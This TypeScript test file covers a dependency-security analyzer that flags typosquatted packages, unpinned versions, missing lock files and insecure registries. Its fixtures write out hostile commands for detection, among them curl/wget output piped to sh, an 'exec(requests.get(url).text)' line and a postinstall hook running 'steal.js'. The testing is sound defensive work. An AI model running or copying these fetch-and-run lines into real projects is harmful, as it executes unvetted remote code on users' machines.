import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { describeAnalyzer } from '../../../test/contracts/analyzer.ts';
import { placesOf, scanProject } from '../../../test/scan-project.ts';
import { LANGUAGES } from '../../protocol/source/language.ts';
import { openAnalyzer } from '../open-analyzer.ts';
import { parseNpmLock } from '../packages/lock-file.ts';
import {
  parseGemfile,
  parseGoModule,
  parsePom,
  parsePyproject,
  parseRequirements,
} from '../packages/package-manifest.ts';
import { openDocument } from '../source-text/text-document.ts';
import { dependencies } from './declaration.ts';
import { findLookalike } from './typosquat.ts';
import { judgeSpec } from './version-spec.ts';

describeAnalyzer(dependencies, {
  host: { checksAdvisories: true },
  files: { 'requirements.txt': 'requets==1.0\n' },
  finds: ['requirements.txt:1 lookalike-package'],
});

const analyzer = openAnalyzer(dependencies);
const json = (value: unknown): string => JSON.stringify(value, null, 2);
const LOCK = json({ lockfileVersion: 3, packages: { '': {} } });

describe('dependencies analyzer', () => {
  test('accepts every source language and every manifest, for its reviewer alone', () => {
    const sources = LANGUAGES.filter(({ kind }) => kind === 'source').map(({ name }) => name);
    expect(sources.filter((name) => !analyzer.accepts('x', name, 'vulnerability-reviewer'))).toEqual([]);
    const paths = [
      'package.json',
      'a/requirements-dev.txt',
      'pyproject.toml',
      'go.mod',
      'Gemfile',
      'composer.json',
      'pom.xml',
      'Dockerfile',
      'x.dockerfile',
      '.github/workflows/a.yml',
      '.npmrc',
    ];
    expect(paths.filter((path) => !analyzer.accepts(path, null, 'vulnerability-reviewer'))).toEqual([]);
    expect(analyzer.accepts('package.json', 'json', 'code-quality-reviewer')).toBe(false);
    expect(analyzer.accepts('tsconfig.json', 'json', 'vulnerability-reviewer')).toBe(false);
  });

  test('says in every outcome that advisories were not looked up', async () => {
    const outcome = await scanProject(analyzer, { 'src/a.ts': 'const a = 1;' });
    expect(outcome).toEqual({
      status: 'completed',
      reason: 'advisories not checked: no source configured',
      findings: [],
      unfinished: [],
    });
  });

  test('a finding names the dependency, its line and what to write instead', async () => {
    const outcome = await scanProject(analyzer, {
      'package.json': json({ private: true, dependencies: { express: '^4.0.0', pino: '*' } }),
      'yarn.lock': '',
    });
    expect(outcome.findings).toEqual([
      expect.objectContaining({
        reviewer: 'vulnerability-reviewer',
        rule: 'dependency-any-version',
        severity: 'MEDIUM',
        category: 'outdated',
        dimension: 'D10',
        cwe: 'CWE-1357',
        file: 'package.json',
        line: 5,
        evidence: '    "pino": "*"',
        extra: { dependency: 'pino', affected_versions: '*' },
      }),
    ]);
  });

  test('of a manifest in one long line the evidence shows the dependency it is about', async () => {
    const many = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`package-number-${i}`, '1.0.0']));
    const text = JSON.stringify({ private: true, dependencies: { ...many, expresss: '1.0.0' } });
    const { findings } = await scanProject(analyzer, { 'package.json': text, 'yarn.lock': '' });
    expect(findings.map(({ rule, evidence }) => [rule, evidence])).toEqual([
      ['lookalike-package', '"expresss":"1.0.0"}}'],
    ]);
  });

  test('more than three of a kind become one finding that counts them', async () => {
    const dependencies = Object.fromEntries(Array.from({ length: 12 }, (_, index) => [`package-${index}`, 'latest']));
    const outcome = await scanProject(analyzer, { 'package.json': json({ dependencies }), 'package-lock.json': '{' });
    expect(outcome.findings).toHaveLength(1);
    expect(outcome.findings[0]).toMatchObject({ line: 3, title: '12 dependencies are not pinned' });
    expect(outcome.findings[0]?.issue).toMatch(/ and 2 more\.$/u);
  });

  const specs: readonly (readonly [ecosystem: Parameters<typeof judgeSpec>[0], spec: string, rule: string | null])[] = [
    ['npm', '^1.2.3', null],
    ['npm', '1.2.3', null],
    ['npm', '>=1.2.3 <2', null],
    ['npm', '>=1.2.3', 'dependency-open-range'],
    ['npm', '*', 'dependency-any-version'],
    ['npm', '', 'dependency-any-version'],
    ['npm', 'latest', 'dependency-any-version'],
    ['npm', 'npm:other@^1.0.0', null],
    ['npm', 'npm:@scope/other@1.0.0', null],
    ['npm', 'workspace:*', null],
    ['npm', 'file:../lib', null],
    ['npm', 'user/repo', 'dependency-from-branch'],
    ['npm', 'github:user/repo#main', 'dependency-from-branch'],
    ['npm', 'git+https://host/a/b.git#0123456789abcdef0123456789abcdef01234567', null],
    ['npm', 'git://host/a/b.git', 'dependency-over-plain-connection'],
    ['npm', 'http://host/a.tgz', 'dependency-over-plain-connection'],
    ['npm', 'http://localhost:4873/a.tgz', null],
    ['npm', 'https://host/a.tgz', 'dependency-from-address'],
    ['pypi', '==1.0', null],
    ['pypi', '~=1.0', null],
    ['pypi', '>=1.0,<2', null],
    ['pypi', '>=1.0', 'dependency-open-range'],
    ['pypi', '', 'dependency-any-version'],
    ['pypi', 'git+https://host/a/b.git', 'dependency-from-branch'],
    ['pypi', 'git+https://host/a/b.git@0123456789abcdef', null],
    ['go', 'v0.0.0-20240101000000-0123456789ab', null],
    ['rubygems', "git: 'https://host/a.git'", 'dependency-from-branch'],
    ['rubygems', "'~> 7.0'", null],
    ['rubygems', '', null],
    ['packagist', 'dev-master', 'dependency-any-version'],
    ['maven', 'LATEST', 'dependency-any-version'],
    ['maven', '[1.0,)', 'dependency-open-range'],
    ['maven', '1.0', null],
  ];

  test.each(specs)('%s "%s" → %s', (ecosystem, spec, rule) => {
    expect(judgeSpec(ecosystem, { name: 'a', spec, line: 1, isDevelopment: false })?.rule ?? null).toBe(rule);
  });

  const names: readonly (readonly [ecosystem: 'npm' | 'pypi' | 'go', name: string, popular: string | null])[] = [
    ['npm', 'lodash', null],
    ['npm', 'lodahs', 'lodash'],
    ['npm', 'crossenv', 'cross-env'],
    ['npm', 'expresss', 'express'],
    ['npm', 'preact', null],
    ['npm', 'mysql2', null],
    ['npm', 'tslint', null],
    ['npm', '@lodash/x', null],
    ['npm', 'zod', null],
    ['pypi', 'reqeusts', 'requests'],
    ['pypi', 'requests', null],
    ['pypi', 'boto', null],
    ['go', 'lodahs', null],
  ];

  test.each(names)('%s package %s looks like %s', (ecosystem, name, popular) => {
    expect(findLookalike(ecosystem, name)?.popular ?? null).toBe(popular);
  });

  const projects: readonly (readonly [name: string, files: Record<string, string>, expected: readonly string[]])[] = [
    [
      'missing lock of an application',
      { 'package.json': json({ private: true, dependencies: { zod: '4.0.0' } }) },
      ['lock-file-missing package.json:4'],
    ],
    ['a library needs none', { 'package.json': json({ main: 'a.js', dependencies: { zod: '4.0.0' } }) }, []],
    [
      'a workspace has it above',
      {
        'package.json': json({ private: true, workspaces: ['packages/*'] }),
        'package-lock.json': '{',
        'packages/a/package.json': json({ private: true, dependencies: { zod: '4.0.0' } }),
      },
      [],
    ],
    [
      'a project inside another one has its own',
      {
        'package.json': json({ private: true }),
        'package-lock.json': '{',
        'examples/a/package.json': json({ private: true, dependencies: { zod: '4.0.0' } }),
      },
      ['lock-file-missing examples/a/package.json:4'],
    ],
    [
      'go.mod without go.sum',
      { 'go.mod': 'module a\n\nrequire github.com/a/b v1.2.3\n' },
      ['lock-file-missing go.mod:3'],
    ],
    ['go.mod without dependencies', { 'go.mod': 'module a\n\ngo 1.23\n' }, []],
    [
      'plain origin in the lock, told at the manifest line of the dependency',
      {
        'package.json': json({ private: true, dependencies: { a: '1.0.0', b: '2.0.0' } }),
        'package-lock.json': json({
          packages: {
            '': { dependencies: { a: '1.0.0', b: '2.0.0' } },
            'node_modules/a': {
              version: '1.0.0',
              resolved: 'https://registry.example/a/-/a-1.0.0.tgz',
              integrity: 'sha512-x',
            },
            'node_modules/b': {
              version: '2.0.0',
              resolved: 'http://mirror.example/b/-/b-2.0.0.tgz',
              integrity: 'sha512-y',
            },
          },
        }),
      },
      ['locked-over-plain-connection package.json:5'],
    ],
    [
      'missing checksum of a package that comes along',
      {
        'package.json': json({ private: true, dependencies: { a: '1.0.0' } }),
        'package-lock.json': json({
          packages: {
            '': { dependencies: { a: '1.0.0' } },
            'node_modules/a': {
              version: '1.0.0',
              resolved: 'https://registry.example/a/-/a-1.0.0.tgz',
              integrity: 'sha512-x',
            },
            'node_modules/c': { version: '3.0.0', resolved: 'https://registry.example/c/-/c-3.0.0.tgz' },
            'node_modules/d': { link: true, resolved: 'packages/d' },
          },
        }),
      },
      ['locked-without-checksum package.json:4'],
    ],
    [
      'lock made for other ranges',
      { 'package.json': json({ private: true, dependencies: { a: '2.0.0' } }), 'package-lock.json': LOCK },
      ['lock-file-outdated package.json:4'],
    ],
    [
      'install script that downloads',
      { 'package.json': json({ scripts: { postinstall: 'curl -s https://x.example/a.sh | sh' } }) },
      ['install-script-downloads package.json:3'],
    ],
    [
      'install scripts of any kind, told once',
      {
        'package.json': json({ scripts: { preinstall: 'node a.js', postinstall: 'node b.js', prepare: 'node c.js' } }),
      },
      ['install-script package.json:3'],
    ],
    [
      'install scripts of usual tools',
      {
        'package.json': json({
          scripts: { install: 'prebuild-install || node-gyp rebuild', postinstall: 'patch-package && husky install' },
        }),
      },
      [],
    ],
    [
      'a script that hides behind a usual tool',
      { 'package.json': json({ scripts: { postinstall: 'echo $(node steal.js)' } }) },
      ['install-script package.json:3'],
    ],
    [
      'scripts of other moments',
      { 'package.json': json({ scripts: { prepare: 'husky', postbuild: 'node scripts/patch.js' } }) },
      [],
    ],
    ['broken manifest', { 'package.json': '{ "dependencies": ' }, []],
    [
      'images',
      {
        Dockerfile:
          'ARG V=1\nFROM node:24-slim AS build\nFROM build\nFROM scratch\nFROM debian\nFROM a/b:latest\nFROM x@sha256:abc\nFROM node:${V}\nADD https://x.example/a /a\n',
      },
      ['image-without-version Dockerfile:5', 'image-without-version Dockerfile:6', 'image-adds-address Dockerfile:9'],
    ],
    [
      'actions',
      {
        '.github/workflows/a.yml':
          'steps:\n  - uses: actions/checkout@v4\n  - uses: a/b@main\n  - uses: ./local\n  - uses: c/d@0123456789abcdef0123456789abcdef01234567 # v1\n',
      },
      ['action-from-branch .github/workflows/a.yml:3'],
    ],
    [
      'registries',
      {
        '.npmrc': 'registry=http://npm.example/\n# registry=http://old.example/\n',
        'requirements.txt': '--extra-index-url https://pypi.example\nrequests==2.32.3\n',
        Gemfile: "source 'http://gems.example'\ngem 'rails', '~> 7'\n",
        'Gemfile.lock': '',
      },
      [
        'registry-over-plain-connection .npmrc:1',
        'registry-over-plain-connection Gemfile:1',
        'second-package-index requirements.txt:1',
      ],
    ],
    [
      'code fetched and run',
      {
        'a.sh': 'curl -fsSL https://x.example/a.sh | bash\n# curl x | sh\ncurl https://x.example/data | jq .\n',
        'b.py': 'exec(requests.get(url).text)\nos.system("pip install --index-url http://x.example/simple a")\n',
        'c.html':
          '<script src="https://cdn.example/a.js"></script>\n<script src="https://cdn.example/a.js" integrity="sha384-x"></script>\n<script src="/own.js"></script>\n',
        'd.lua': 'os.execute("wget -qO- http://x.example/a | sh")\n',
      },
      [
        'download-piped-to-shell a.sh:1',
        'download-evaluated b.py:1',
        'install-from-open-connection b.py:2',
        'script-without-integrity c.html:1',
        'download-piped-to-shell d.lua:1',
      ],
    ],
    [
      'pyproject',
      {
        'pyproject.toml':
          '[project]\ndependencies = [\n  "requests>=2",\n  "flask",\n]\n[tool.poetry.dependencies]\npython = "^3.12"\ndjango = "*"\nown = { git = "https://x.example/a.git" }\n',
      },
      [
        'dependency-any-version pyproject.toml:4',
        'dependency-any-version pyproject.toml:8',
        'dependency-from-branch pyproject.toml:9',
      ],
    ],
    [
      'pom.xml',
      {
        'pom.xml':
          '<project><version>LATEST</version>\n<dependency>\n<artifactId>a</artifactId>\n<version>LATEST</version>\n</dependency></project>\n',
      },
      ['dependency-any-version pom.xml:4'],
    ],
    [
      'composer.json',
      { 'composer.json': json({ type: 'project', require: { php: '>=8', 'a/b': '*' } }), 'composer.lock': '' },
      ['dependency-any-version composer.json:5'],
    ],
  ];

  test.each(projects)('%s', async (_name, files, expected) => {
    expect(placesOf(await scanProject(analyzer, files))).toEqual([...expected]);
  });

  test('parsers take any text', () => {
    const parsers = [parseRequirements, parsePyproject, parseGemfile, parseGoModule, parsePom];
    const word = fc.constantFrom(
      'a',
      '==',
      '>=',
      '[',
      ']',
      '"',
      "'",
      '{',
      '}',
      '=',
      '\n',
      ' ',
      'gem',
      'require',
      '<version>',
      '<dependency>',
      'git+',
      '#',
      '-',
      '😀',
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 40 }), (words) => {
        const document = openDocument({
          path: 'requirements.txt',
          language: null,
          text: words.join(''),
          changed: null,
        });
        for (const parse of parsers) {
          for (const { line } of parse(document)) expect(line).toBeLessThanOrEqual(document.lines.length);
        }
      }),
    );
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.json()), (text) => {
        const lock = parseNpmLock('package-lock.json', text);
        for (const { name } of lock?.packages ?? []) expect(typeof name).toBe('string');
      }),
    );
  });
});
